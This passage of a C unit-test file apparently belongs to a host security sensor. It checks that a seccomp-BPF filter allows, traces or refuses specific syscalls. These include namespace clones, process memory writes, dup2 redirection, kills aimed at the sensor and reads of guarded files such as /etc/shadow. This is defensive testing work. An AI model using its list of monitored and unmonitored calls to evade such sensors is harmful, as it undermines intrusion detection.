	{ SET_PLAIN, "ftruncate", 0, { 3, 4096 }, ALLOW,
	  "ftruncate(fd, 4096) runs (a database sizing its file)" },
	{ SET_PLAIN, "ftruncate", 0, { 3, 1ULL << 32 }, ALLOW,
	  "ftruncate(fd, 4 GiB) runs: the length is 64 bits" },
	{ SET_PLAIN, "ftruncate", SCMP_ARCH_X86, { 3, 0 }, TRACE, "i386 ftruncate(fd, 0) stops" },
	{ SET_PLAIN, "ftruncate64", SCMP_ARCH_X86, { 3, 0, 0 }, TRACE,
	  "i386 ftruncate64(fd, 0) stops" },
	{ SET_PLAIN, "truncate64", SCMP_ARCH_X86, { 0x1000, 0, 0 }, TRACE,
	  "i386 truncate64 stops" },
	{ SET_NO_FILES, "linkat", 0, { FDCWD, PATHP, FDCWD, PATHP, 0 }, ALLOW,
	  "file events off: linkat runs" },
	{ SET_NO_FILES, "ftruncate", 0, { 3, 0 }, ALLOW, "file events off: ftruncate(fd, 0) runs" },

	/* TCP Fast Open: a connect; other sends run. */
	{ SET_PLAIN, "sendto", 0, { 3, PATHP, 1, MSG_FASTOPEN, PATHP, 16 }, TRACE,
	  "sendto(MSG_FASTOPEN) stops" },
	{ SET_PLAIN, "sendto", 0, { 3, PATHP, 1, MSG_FASTOPEN | MSG_NOSIGNAL | MSG_DONTWAIT,
	  PATHP, 28 }, TRACE, "sendto(MSG_FASTOPEN with other flags) stops" },
	{ SET_PLAIN, "sendto", 0, { 3, PATHP, 1, MSG_NOSIGNAL, 0, 0 }, ALLOW,
	  "send on a connected socket (sendto without an address) runs" },
	{ SET_PLAIN, "sendto", 0, { 3, PATHP, 1, 0, PATHP, 16 }, ALLOW,
	  "sendto with an address (UDP) runs" },
	{ SET_PLAIN, "sendmsg", 0, { 3, PATHP, MSG_FASTOPEN }, TRACE, "sendmsg(MSG_FASTOPEN) stops" },
	{ SET_PLAIN, "sendmsg", 0, { 3, PATHP, MSG_NOSIGNAL }, ALLOW, "sendmsg runs" },
	{ SET_PLAIN, "sendmmsg", 0, { 3, PATHP, 2, MSG_FASTOPEN }, TRACE,
	  "sendmmsg(MSG_FASTOPEN) stops" },
	{ SET_PLAIN, "sendmmsg", 0, { 3, PATHP, 2, 0 }, ALLOW, "sendmmsg runs" },
	{ SET_NO_FILES, "sendto", 0, { 3, PATHP, 1, MSG_FASTOPEN, PATHP, 16 }, TRACE,
	  "file events off: sendto(MSG_FASTOPEN) still stops" },

	/* clone: only with a namespace flag, only with a rule on unshare. */
#define THREAD_FLAGS (CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | \
		      CLONE_SYSVSEM | CLONE_SETTLS | CLONE_PARENT_SETTID | CLONE_CHILD_CLEARTID)
	{ SET_BUILTIN, "clone", 0, { THREAD_FLAGS }, ALLOW, "clone of a thread runs" },
	{ SET_BUILTIN, "clone", 0, { CLONE_CHILD_SETTID | CLONE_CHILD_CLEARTID | SIGCHLD },
	  ALLOW, "clone of a fork runs" },
	{ SET_BUILTIN, "clone", 0, { CLONE_VM | CLONE_VFORK | SIGCHLD }, ALLOW,
	  "clone of a vfork (posix_spawn) runs" },
	{ SET_BUILTIN, "clone", 0, { CLONE_NEWNS | SIGCHLD }, TRACE, "clone(CLONE_NEWNS) stops" },
	{ SET_BUILTIN, "clone", 0, { CLONE_NEWPID | SIGCHLD }, TRACE, "clone(CLONE_NEWPID) stops" },
	{ SET_BUILTIN, "clone", 0, { CLONE_NEWNET | SIGCHLD }, TRACE, "clone(CLONE_NEWNET) stops" },
	{ SET_BUILTIN, "clone", 0, { CLONE_NEWUTS | SIGCHLD }, TRACE, "clone(CLONE_NEWUTS) stops" },
	{ SET_BUILTIN, "clone", 0, { CLONE_NEWIPC | SIGCHLD }, TRACE, "clone(CLONE_NEWIPC) stops" },
	{ SET_BUILTIN, "clone", 0, { CLONE_NEWCGROUP | SIGCHLD }, TRACE,
	  "clone(CLONE_NEWCGROUP) stops" },
	{ SET_BUILTIN, "clone", 0, { THREAD_FLAGS | CLONE_NEWNET }, TRACE,
	  "clone of a thread with CLONE_NEWNET stops (the kernel refuses it, the rule sees it)" },
	{ SET_BUILTIN, "clone", SCMP_ARCH_X86, { CLONE_NEWNS | SIGCHLD }, TRACE,
	  "i386 clone(CLONE_NEWNS) stops" },
	{ SET_NO_NS, "clone", 0, { CLONE_NEWNS | SIGCHLD }, ALLOW,
	  "namespace rules off: clone(CLONE_NEWNS) runs" },

	/* process_vm_writev: always, with a rule on ptrace. */
	{ SET_BUILTIN, "process_vm_writev", 0, { OTHER, PATHP, 1, PATHP, 1, 0 }, TRACE,
	  "process_vm_writev(other) stops" },
	{ SET_BUILTIN, "process_vm_writev", 0, { S64(PID), PATHP, 1, PATHP, 1, 0 },
	  EPERM_OR_TRACE, "process_vm_writev(sensor) is refused or stopped (as ptrace: "
	  "the kernel refuses it too, the sensor is not dumpable)" },
	{ SET_BUILTIN, "process_vm_readv", 0, { OTHER, PATHP, 1, PATHP, 1, 0 }, ALLOW,
	  "process_vm_readv(other) runs" },
	{ SET_PLAIN, "process_vm_writev", 0, { OTHER, PATHP, 1, PATHP, 1, 0 }, ALLOW,
	  "no ptrace rule: process_vm_writev(other) runs" },

	/* --file-events=off: no file syscall stops, the rest as before. */
	{ SET_NO_FILES, "openat", 0, { FDCWD, PATHP, O_RDONLY }, ALLOW,
	  "file events off: openat O_RDONLY runs despite sensitive paths" },
	{ SET_NO_FILES, "openat", 0, { FDCWD, PATHP, O_WRONLY | O_CREAT | O_TRUNC }, ALLOW,
	  "file events off: openat for writing runs" },
	{ SET_NO_FILES, "creat", 0, { PATHP, 0644 }, ALLOW, "file events off: creat runs" },
	{ SET_NO_FILES, "openat2", 0, { FDCWD, PATHP, 0x1000, 24 }, ALLOW,
	  "file events off: openat2 runs" },
	{ SET_NO_FILES, "unlinkat", 0, { FDCWD, PATHP, 0 }, ALLOW,
	  "file events off: unlinkat runs" },
	{ SET_NO_FILES, "renameat2", 0, { FDCWD, PATHP, FDCWD, PATHP, 0 }, ALLOW,
	  "file events off: renameat2 runs" },
	{ SET_NO_FILES, "chmod", 0, { PATHP, 04755 }, ALLOW, "file events off: chmod 04755 runs" },
	{ SET_NO_FILES, "execve", 0, { PATHP, PATHP, PATHP }, TRACE,
	  "file events off: execve still stops" },
	{ SET_NO_FILES, "connect", 0, { 3, PATHP, 16 }, TRACE,
	  "file events off: connect still stops" },
	{ SET_NO_FILES, "dup2", 0, { 5, 1 }, TRACE, "file events off: dup2(5, 1) still stops" },
	{ SET_NO_FILES, "kill", 0, { S64(PID), 9 }, EPERM_,
	  "file events off: kill(sensor) is refused" },

	/* Self-protection is unchanged by the rules. */
	{ SET_BUILTIN, "kill", 0, { S64(PID), 9 }, EPERM_, "kill(sensor) is refused" },
	{ SET_BUILTIN, "kill", 0, { S64(-PGID), 19 }, EPERM_, "kill(-sensor group) is refused" },
	{ SET_BUILTIN, "kill", 0, { OTHER, 15 }, ALLOW, "kill(other) runs" },
	{ SET_BUILTIN, "tgkill", 0, { S64(PID), S64(SIGNALS), 19 }, EPERM_,
	  "tgkill(sensor) is refused" },
	{ SET_BUILTIN, "pidfd_send_signal", 0, { 3, 9, 0, 0 }, TRACE,
	  "pidfd_send_signal stops" },
	{ SET_PLAIN, "kill", 0, { S64(PID), 9 }, EPERM_,
	  "exec rule only: kill(sensor) is refused" },
	{ SET_BUILTIN, "kill", SCMP_ARCH_X86, { PID, 9 }, EPERM_, "i386 kill(sensor) is refused" },
};

struct built {
	struct ruleset rs;
	struct trace_spec spec;
	struct spec_concrete r;
	struct sock_fprog prog;
	int ok;
};

static int build_set(enum set s, struct built *b)
{
	struct fc_err e = { 0 };
	int every_open;

	memset(b, 0, sizeof *b);
	if ((sets[s].builtin && ruleset_load_builtin(&b->rs, &e) < 0) ||
	    (sets[s].doc && add_doc(&b->rs, sets[s].doc, &e) < 0)) {
		CHECK(0, "filter: the %s set loads", sets[s].name);
		unit_diag("%s", e.msg);
		return -1;
	}
	/* As the sensor does for --file-events=off. */
	if (sets[s].no_files)
		ruleset_drop_events(&b->rs, FILE_EVENTS);
	every_open = rules_spec_reads(&b->rs) == READS_ALL ||
		     (!sets[s].guarded && rules_spec_reads(&b->rs) != READS_NONE);
	if (rules_spec_build(&b->rs, !sets[s].no_files, every_open, &b->spec, &e) < 0) {
		CHECK(0, "filter: the %s set gives a trace spec", sets[s].name);
		unit_diag("%s", e.msg);
		return -1;
	}
	if (spec_concrete_build(&b->spec, &ctx, &b->r, &e) < 0) {
		CHECK(0, "filter: the %s spec builds into rules", sets[s].name);
		unit_diag("%s", e.msg);
		return -1;
	}
	if (seccomp_filter_build(&b->r, &b->prog, &e) < 0) {
		CHECK(0, "filter: the %s rules compile to BPF", sets[s].name);
		unit_diag("%s", e.msg);
		return -1;
	}
	b->ok = 1;
	return 0;
}

static void free_set(struct built *b)
{
	seccomp_filter_free(&b->prog);
	spec_concrete_free(&b->r);
	rules_spec_free(&b->spec);
	ruleset_free(&b->rs);
}

static uint32_t audit_arch_of(uint32_t token)
{
	return token == SCMP_ARCH_X32 ? AUDIT_ARCH_X86_64 : token;
}

/* The whole spec: no exit stops, every stop has a decoder. */
static void check_spec(enum set s, const struct built *b)
{
	int ok = 1;

	for (size_t i = 0; i < b->spec.n; i++) {
		const struct spec_row *row = &b->spec.rows[i];

		/* A policy row needs no decoder: the tracer refuses it from
		 * the registers (policy.h). */
		if (row->action == SPEC_TRACE && row->decoder == DEC_NONE &&
		    !row->policy && strcmp(row->syscall, "pidfd_send_signal") != 0)
			ok = 0;
	}
	CHECK(ok, "filter: %s: every stop has a decoder (no row takes an exit stop: there is none)",
	      sets[s].name);
	CHECK(b->prog.len > 0 && b->prog.len < BPF_MAXINSNS,
	      "filter: %s: %zu rows, %zu rules, %u BPF instructions (limit %d)",
	      sets[s].name, b->spec.n, b->r.n, b->prog.len, BPF_MAXINSNS);
}

static void test_filter(void)
{
	struct built b[SET_N];

	for (int s = 0; s < SET_N; s++)
		if (build_set((enum set)s, &b[s]) == 0)
			check_spec((enum set)s, &b[s]);
	for (size_t i = 0; i < sizeof filter_cases / sizeof *filter_cases; i++) {
		const struct filter_case *c = &filter_cases[i];
		const struct built *x = &b[c->set];
		uint32_t token = c->arch ? c->arch : seccomp_arch_native();
		int nr = seccomp_syscall_resolve_name_arch(token, c->syscall);
		struct sim_data d = { nr, audit_arch_of(token), 0, { 0 } };
		uint32_t got, action, data;
		long urow;
		int bpf_ok, user_ok;

		if (!x->ok)
			continue;
		if (nr < 0) {
			CHECK(0, "filter: %s: %s: libseccomp knows %s", sets[c->set].name,
			      c->why, c->syscall);
			continue;
		}
		memcpy(d.args, c->args, sizeof d.args);
		got = run_bpf(&x->prog, &d);
		action = got & SECCOMP_RET_ACTION_FULL;
		data = got & SECCOMP_RET_DATA;
		urow = spec_concrete_match(&x->r, d.arch, (uint64_t)(uint32_t)nr, d.args);

		/* The kernel's answer, and the row a stop reports must
		 * apply to this call and be a stop. */
		{
			int is_trace = action == SECCOMP_RET_TRACE && data < x->spec.n &&
				x->spec.rows[data].action == SPEC_TRACE &&
				spec_concrete_row_matches(&x->r, data, d.arch,
						       (uint64_t)(uint32_t)nr, d.args);
			int is_eperm = action == SECCOMP_RET_TRACE && urow >= 0 &&
				x->spec.rows[urow].policy;

			switch (c->want) {
			case ALLOW: bpf_ok = got == SECCOMP_RET_ALLOW; break;
			case TRACE: bpf_ok = is_trace; break;
			case EPERM_: bpf_ok = is_eperm; break;
			default: bpf_ok = is_trace || is_eperm; break;
			}
			if (c->want == EPERM_OR_TRACE)
				unit_diag("%s: the filter %s", c->why, is_eperm ? "refuses it "
					  "(EPERM)" : is_trace ? "stops it (TRACE, a rule's row)" :
					  "does something else");
		}
		if (!CHECK(bpf_ok, "filter: %s: bpf: %s", sets[c->set].name, c->why))
			unit_diag("nr %d arch 0x%x: got 0x%x (row %u: %s)", nr, d.arch, got, data,
				  data < x->spec.n ? x->spec.rows[data].syscall : "-");

		/* The user-space twin (--seccomp=off): the first row that
		 * matches. */
		switch (c->want) {
		case ALLOW:
			user_ok = urow == -1;
			break;
		case TRACE:
			user_ok = urow >= 0 && x->spec.rows[urow].action == SPEC_TRACE &&
				  spec_concrete_row_matches(&x->r, (size_t)urow, d.arch,
							 (uint64_t)(uint32_t)nr, d.args);
			break;
		case EPERM_:
			user_ok = urow >= 0 && x->spec.rows[urow].policy;
			break;
		default:
			user_ok = urow >= 0;
			unit_diag("%s: user space %s", c->why, urow >= 0 &&
				  x->spec.rows[urow].policy ? "refuses it (a policy)" :
				  "stops it (TRACE)");
			break;
		}
		if (!CHECK(user_ok, "filter: %s: user space: %s", sets[c->set].name, c->why))
			unit_diag("row %ld", urow);
	}
	for (int s = 0; s < SET_N; s++)
		free_set(&b[s]);
}

/* Which reads matter (rules_spec.h), and the files the guard leases. */
static void test_reads(void)
{
	static const struct {
		enum set set;
		enum spec_reads want;
		const char *file;        /* one of the guarded files, or NULL */
		const char *why;
	} cases[] = {
		{ SET_BUILTIN, READS_BY_FILE, "/etc/shadow",
		  "the built-in rules read named files: the guard can watch them" },
		{ SET_PLAIN, READS_NONE, NULL, "no read rule, no sensitive path: no read matters" },
		{ SET_OPEN_RULE, READS_BY_FILE, "/x", "a rule on file.path eq /x: by file" },
		{ SET_READ_RULE, READS_ALL, NULL,
		  "a rule on opens by process.name: every open must stop" },
	};

	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct built b;
		const char **files;
		size_t n = 0;
		int found = cases[i].file == NULL, proc = 0;

		if (build_set(cases[i].set, &b) < 0)
			continue;
		CHECK(rules_spec_reads(&b.rs) == cases[i].want, "reads: %s", cases[i].why);
		files = rules_spec_read_files(&b.rs, &n);
		for (size_t f = 0; files && f < n && cases[i].file; f++)
			found |= strcmp(files[f], cases[i].file) == 0;
		CHECK(files && found, "reads: %s: the guarded files name %s", cases[i].why,
		      cases[i].file ? cases[i].file : "nothing in particular");
		/* /proc/self/mem is the write rule's (process-memory-write):
		 * not a file whose reads matter. */
		for (size_t f = 0; files && f < n; f++)
			proc |= strncmp(files[f], "/proc/", 6) == 0;
		CHECK(!proc, "reads: %s: no /proc file among the guarded", cases[i].why);
		free(files);
		free_set(&b);
	}
}

int main(void)
{
	test_load_table();
	test_load_limits();
	test_builtin();
	test_merge();
	test_drop_events();
	test_add_file();
	test_match_table();
	test_match_more();
	test_filter();
	test_reads();
	return unit_done();
}
